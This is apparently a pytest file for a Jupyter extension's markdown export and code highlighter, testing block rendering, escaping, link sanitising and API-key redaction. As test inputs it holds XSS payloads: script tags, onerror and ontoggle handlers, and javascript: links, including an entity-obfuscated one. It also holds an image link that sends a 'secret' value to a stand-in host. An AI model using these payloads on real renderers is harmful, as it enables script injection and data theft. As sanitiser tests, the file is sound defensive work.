"""The blocks program (export/markdown_blocks.py) and the one highlighter (export/highlight.py):
what the live view builds from a reply's completed blocks, and the coloured code of the saved
render (export/html.py)."""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

import pytest
from markdown_support import run_program, shown_text

from mibyan_jupyter.export.highlight import STYLES, highlight_html, runs, spans
from mibyan_jupyter.export.html import markdown_html
from mibyan_jupyter.export.markdown_blocks import TAGS, markdown_program

SAMPLE = """# Title *here*

Some **bold**, _em_, `code` and a [link](https://example.com/a?b=1) ~~gone~~.
A second line.

3. first
4. second

| Name | Value |
|:-----|------:|
| a    | 1     |

```python
def f(x):
    return x + 1  # add
```

> quoted

---
"""


def test_the_program_builds_the_blocks_of_the_markdown() -> None:
    program = markdown_program(SAMPLE)
    assert run_program(program, SAMPLE) == (
        "<h1>Title <em>here</em></h1>"
        "<p>Some <strong>bold</strong>, <em>em</em>, <code>code</code> and a "
        '<a href="https://example.com/a?b=1">link</a> <del>gone</del>.\nA second line.</p>'
        '<ol start="3"><li>first</li><li>second</li></ol>'
        '<table><thead><tr><th align="left">Name</th><th align="right">Value</th></tr></thead>'
        '<tbody><tr><td align="left">a</td><td align="right">1</td></tr></tbody></table>'
        '<pre data-lang="python"><span class="k">def</span> <span class="nf">f</span>(x):\n'
        '    <span class="k">return</span> x <span class="o">+</span> <span class="m">1</span>'
        '  <span class="c"># add</span>\n</pre>'
        "<blockquote><p>quoted</p></blockquote><hr>"
    )


def test_text_is_pointed_to_not_copied() -> None:
    paragraph = "A long paragraph of plain prose, the common case of a reply. " * 10
    assert markdown_program(paragraph) == f"<p{len(paragraph.strip())}>"
    program = markdown_program(SAMPLE)  # dense: a construct every few words
    assert len(program) < len(SAMPLE)
    assert "bold" not in program
    assert "second line" not in program


def test_text_not_in_the_source_is_a_literal() -> None:
    source = "a \\* b &amp; c &lt;d&gt; it's"
    program = markdown_program(source)
    assert shown_text(program, source) == "a * b & c <d> it's"
    assert "it\\'s'" in program  # a literal, its quote escaped


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "[m](javascript:alert(1)) [n](JaVa&#x09;script:alert(1)) <javascript:alert(1)>",
        "![i](https://evil.example/?q=secret)",
        "<details open ontoggle=alert(1)>t</details>\n\n<b>bold?</b>",
    ],
)
def test_html_shows_as_text_and_links_are_safe(source: str) -> None:
    built = run_program(markdown_program(source), source)
    tags = set(re.findall(r"</?([a-z0-9]+)", built))
    assert tags <= TAGS - {"pre"} | {"span"}, built
    assert "<img" not in built
    assert "<script" not in built
    for href in re.findall(r'href="([^"]*)"', built):  # "#", https, or a relative path
        assert urlsplit(html.unescape(href)).scheme in ("", "https"), built
    if source.startswith("!["):
        assert "[image: i]" in shown_text(markdown_program(source), source)


def test_a_key_spelt_with_entities_is_redacted(monkeypatch: pytest.MonkeyPatch) -> None:
    key = "sk-test-" + "Zq9" * 10
    monkeypatch.setenv("MIBYAN_BLOCKS_TEST_API_KEY", key)
    source = "the key: &#115;" + key[1:] + " and [x](https://h.example/&#115;" + key[1:] + ")"
    built = run_program(markdown_program(source), source)
    assert key not in built
    assert key[1:] in source
    assert "[redacted]" in built


def test_the_highlighter_keeps_every_character() -> None:
    code = 'import pandas as pd\n\n\ndef load(p: str) -> "pd.DataFrame":\n    return pd.read_csv(p)  # go\n'
    assert "".join(text for _, text in spans(code, "python")) == code
    assert spans(code, "python")[0] == ("k", "import")
    line = runs("x = 1\n", "python")
    assert line == "2 1o 1 1m 1"
    assert runs(code, "no-such-language") == ""
    assert spans("", "python") == []


def test_highlighted_html_escapes_the_code() -> None:
    page = highlight_html('print("<script>alert(1)</script>")\n', "python")
    assert "<script>" not in page
    assert '<span class="nb" style="' + STYLES["nb"] + '">print</span>' in page
    assert html.unescape(re.sub(r"<[^>]+>", "", page)) == 'print("<script>alert(1)</script>")\n'


def test_the_saved_render_colours_code_blocks_and_only_those() -> None:
    page = markdown_html('Run:\n\n```python\nif a < b: pass\n```\n\n<span class="k">fake</span>')
    assert '<span class="k" style="color:#008000;font-weight:bold">if</span>' in page
    assert "a <span" in page
    assert "&lt;" in page
    assert '<span class="k">fake' not in page  # the model's own spans keep no class
    # Placeholders cannot be forged: the private-use marks the renderer uses become U+FFFD.
    forged = markdown_html("```python\nx\n```\n\n\ue0020\ue003 and \ue0021\ue003")
    assert forged.count("<pre") == 1
    assert "\ufffd0\ufffd" in forged
